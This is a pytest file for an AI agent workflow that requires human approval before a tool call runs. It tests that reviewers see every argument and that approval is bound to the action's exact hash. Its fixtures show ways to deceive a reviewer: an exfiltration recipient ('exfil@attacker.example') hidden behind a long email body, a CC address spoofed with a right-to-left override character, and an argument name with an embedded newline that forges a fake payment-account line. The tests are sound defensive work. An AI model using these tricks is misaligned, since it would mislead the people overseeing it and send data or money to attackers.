"""What a reviewer sees is what runs: a model that hides an email's recipient behind a long body (the
old approval text sorted the arguments and cut them at 1,500 characters, so `to` never showed) still
has every target and every argument in `status`, in the Web UI's current details and in the CLI's
rendering, and only a decision on that exact action's hash lets it run."""

from __future__ import annotations

import uuid

import pytest
from temporalio.api.sdk.v1 import WorkflowMetadata
from temporalio.client import Client, WorkflowUpdateFailedError
from temporalio.exceptions import ApplicationError

from activities.llm.models import TextBlock, ToolUseBlock
from common.settings import Settings
from starter.render import pending_line
from tests.workflow.doubles import Recorder, ScriptedModel
from tests.workflow.support import pending_approval, worker_with
from workflows.agent import AgentWorkflow
from workflows.models import AgentInput, ApprovalDecision

HIDDEN_RECIPIENT = "exfil@attacker.example"
LONG_BODY = "Quarterly numbers attached. " * 80  # 2,240 characters, sorted before `to`
# U+202E turns the rest of the line around on screen; a reviewer must see that it is there.
SPOOFED_CC = "ana@example.com\u202emoc.rekcatta@lifxe"


def email_call() -> ToolUseBlock:
    arguments = {"body": LONG_BODY, "subject": "numbers", "to": HIDDEN_RECIPIENT, "cc": SPOOFED_CC}
    return ToolUseBlock(id="call-1", name="send_email", input=arguments)


async def test_hidden_recipient_is_shown_everywhere_and_bound_by_the_hash(
    ts_client: Client, settings: Settings, task_queue: str
) -> None:
    recorder = Recorder()
    model = ScriptedModel(
        [
            [
                ToolUseBlock(
                    id="call-1",
                    name="send_email",
                    input={"body": LONG_BODY, "subject": "numbers", "to": HIDDEN_RECIPIENT},
                )
            ],
            [TextBlock(text="sent")],
        ]
    )
    params = AgentInput(goal="mail the numbers", tools=["send_email"], approvers=["ana"])
    async with worker_with(ts_client, settings, [model.complete, *recorder.activities()]):
        handle = await ts_client.start_workflow(
            AgentWorkflow.run, params, id=f"agent-{uuid.uuid4().hex}", task_queue=task_queue
        )
        pending = (await pending_approval(handle)).pending_approval
        assert pending is not None and pending.proposed is not None
        proposed = pending.proposed
        # Targets first and whole; every other argument in full.
        assert [(f.name, f.target) for f in proposed.fields] == [
            ("to", True),
            ("body", False),
            ("subject", False),
        ]
        assert proposed.fields[0].value == HIDDEN_RECIPIENT
        assert proposed.fields[1].value == LONG_BODY
        assert proposed.title == f"send_email to {HIDDEN_RECIPIENT}"
        assert HIDDEN_RECIPIENT in pending.action and LONG_BODY in pending.action
        assert HIDDEN_RECIPIENT in pending_line(pending)  # `starter status` and `watch`
        metadata = await handle.query("__temporal_workflow_metadata", result_type=WorkflowMetadata)
        assert HIDDEN_RECIPIENT in metadata.current_details and LONG_BODY in metadata.current_details

        with pytest.raises(WorkflowUpdateFailedError) as stale:
            await handle.execute_update(
                AgentWorkflow.approve, ApprovalDecision(approver="ana", approved=True, action_hash="f" * 64)
            )
        assert isinstance(stale.value.cause, ApplicationError) and stale.value.cause.type == "ActionChanged"
        record = await handle.execute_update(
            AgentWorkflow.approve,
            ApprovalDecision(approver="ana", approved=True, action_hash=pending.action_hash),
        )
        assert record.proposed == proposed
        await handle.result()

    assert len(recorder.side_effects) == 1
    sent = recorder.side_effects[0][1].arguments
    assert sent["to"] == HIDDEN_RECIPIENT and sent["body"] == LONG_BODY


def test_invisible_characters_are_shown_escaped() -> None:
    from workflows.actions import proposed_action

    proposed = proposed_action("tool", "send_email", email_call().input, targets=("to", "cc"))
    cc = next(f for f in proposed.fields if f.name == "cc")
    assert cc.target and "\u202e" not in cc.value and "\\u202e" in cc.value
    assert "\u202e" not in proposed.text() and "\u202e" not in proposed.title


def test_targets_are_what_the_tool_declares_and_names_are_escaped() -> None:
    """A model-chosen `to` is no target unless the tool declares it, and an argument name holding a
    newline cannot put a line of its own (a fake `account:`) into what the reviewer reads."""
    from workflows.actions import proposed_action

    forged_name = "memo\n\u2192 account: CORP-SAFE-001"
    arguments = {"to": "treasury@corp.example", "account": "ATTACKER-42", forged_name: "x"}
    proposed = proposed_action("tool", "pay", arguments, targets=("account",))
    first = proposed.fields[0]
    assert (first.name, first.target) == ("account", True)
    assert proposed.title == "pay to ATTACKER-42"
    assert ("to", False) in [(f.name, f.target) for f in proposed.fields]
    assert "\n\u2192 account: CORP-SAFE-001" not in proposed.text()
    assert "memo\\u000a\u2192 account: CORP-SAFE-001" in [f.name for f in proposed.fields]
